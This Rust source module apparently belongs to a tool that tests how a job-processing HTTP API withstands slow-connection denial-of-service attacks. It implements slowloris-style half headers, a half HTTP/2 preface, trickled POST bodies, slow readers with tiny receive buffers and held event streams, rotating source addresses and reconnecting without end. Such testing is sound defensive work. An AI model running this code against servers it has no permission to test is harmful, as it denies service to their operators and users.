//! Connections that are held, each by a task.

use clap::ValueEnum;
use serde::Serialize;
use std::convert::Infallible;
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::sleep;

/// A byte this often, by those that are slow.
const TRICKLE_EVERY: Duration = Duration::from_secs(2);
/// As little as the system allows, so that an answer does not fit.
const RECEIVE_BUFFER_BYTES: u32 = 4_096;
const BODY_BYTES: usize = 64 << 20;
const URL_BYTES: usize = 1_900;

#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum, Serialize)]
#[serde(rename_all = "snake_case")]
#[value(rename_all = "snake_case")]
pub enum Kind {
    Silent,
    HalfHead,
    HalfPreface,
    SlowBody,
    SlowReader,
    Sse,
}

/// Targets of a job whose list of results takes about two kilobytes a row.
pub fn long_urls(rows: u64) -> Vec<String> {
    (0..rows).map(|n| format!("http://target.example/{n:0>URL_BYTES$}")).collect()
}

#[derive(Clone, Debug)]
pub struct Attack {
    pub target: SocketAddr,
    /// With so many connections each, at once.
    pub kinds: Vec<Kind>,
    pub connections: usize,
    /// Taken in turns.
    pub addresses: Vec<IpAddr>,
    pub reconnect: Duration,
    pub key: String,
    /// Of the attacker.
    pub job: String,
}

#[derive(Debug)]
pub struct Running {
    tasks: JoinSet<Infallible>,
    counts: Arc<Counts>,
}

#[derive(Debug, Default)]
struct Counts {
    opened: AtomicUsize,
    established: AtomicUsize,
}

impl Running {
    pub fn opened(&self) -> usize {
        self.counts.opened.load(Ordering::Relaxed)
    }

    /// Those that have sent what they send, and have seen an answer begin if they want one.
    pub fn established(&self) -> usize {
        self.counts.established.load(Ordering::Relaxed)
    }

    /// Closes all connections.
    pub async fn end(mut self) {
        self.tasks.shutdown().await;
    }
}

impl Attack {
    pub fn start(&self) -> Running {
        let counts = Arc::new(Counts::default());
        let mut tasks = JoinSet::new();
        for n in 0..self.connections_in_all() {
            let kind = self.kinds[n % self.kinds.len()];
            let address = self.addresses[n / self.kinds.len() % self.addresses.len()];
            let (attack, counts) = (self.clone(), counts.clone());
            tasks.spawn(async move {
                loop {
                    if let Ok(stream) = attack.connect(kind, address).await {
                        counts.opened.fetch_add(1, Ordering::Relaxed);
                        // However it ends, the next one follows.
                        let _ = attack.hold(kind, stream, &counts).await;
                    }
                    sleep(attack.reconnect).await;
                }
            });
        }
        Running { tasks, counts }
    }

    pub fn connections_in_all(&self) -> usize {
        self.connections * self.kinds.len()
    }

    async fn connect(&self, kind: Kind, from: IpAddr) -> io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.set_zero_linger()?;
        if kind == Kind::SlowReader {
            socket.set_recv_buffer_size(RECEIVE_BUFFER_BYTES)?;
        }
        socket.bind(SocketAddr::new(from, 0))?;
        socket.connect(self.target).await
    }

    /// Holds a connection until the server closes it.
    async fn hold(&self, kind: Kind, mut stream: TcpStream, counts: &Counts) -> io::Result<()> {
        let (key, job) = (&self.key, &self.job);
        let begin = match kind {
            Kind::Silent => String::new(),
            Kind::HalfHead => "GET /v1/jobs HTTP/1.1\r\nHost: x\r\nX-Long: ".to_owned(),
            Kind::HalfPreface => "PRI * HTTP/2.0\r\n".to_owned(),
            Kind::SlowBody => format!(
                "POST /v1/jobs HTTP/1.1\r\nHost: x\r\nX-API-Key: {key}\r\nContent-Type: application/json\r\n\
                 Content-Length: {BODY_BYTES}\r\n\r\n{{"
            ),
            Kind::SlowReader => format!(
                "GET /v1/jobs/{job}/results?limit=1000 HTTP/1.1\r\nHost: x\r\nX-API-Key: {key}\r\n\r\n"
            ),
            Kind::Sse => format!(
                "GET /v1/jobs/{job}/events HTTP/1.1\r\nHost: x\r\nX-API-Key: {key}\r\n\
                 Accept: text/event-stream\r\n\r\n"
            ),
        };
        stream.write_all(begin.as_bytes()).await?;
        if matches!(kind, Kind::SlowReader | Kind::Sse) {
            stream.read_exact(&mut [0]).await?;
        }
        counts.established.fetch_add(1, Ordering::Relaxed);
        let (mut reader, mut writer) = stream.split();
        match kind {
            Kind::HalfHead | Kind::SlowBody => {
                let trickle = async {
                    loop {
                        sleep(TRICKLE_EVERY).await;
                        writer.write_all(b" ").await?;
                    }
                };
                tokio::select! {
                    done = until_closed(&mut reader) => done,
                    done = trickle => done,
                }
            }
            Kind::SlowReader => loop {
                sleep(TRICKLE_EVERY).await;
                if reader.read(&mut [0]).await? == 0 {
                    return Ok(());
                }
            },
            Kind::Silent | Kind::HalfPreface | Kind::Sse => until_closed(&mut reader).await,
        }
    }
}

async fn until_closed(reader: &mut (impl AsyncReadExt + Unpin)) -> io::Result<()> {
    let mut buffer = [0; 1_024];
    while reader.read(&mut buffer).await? > 0 {}
    Ok(())
}
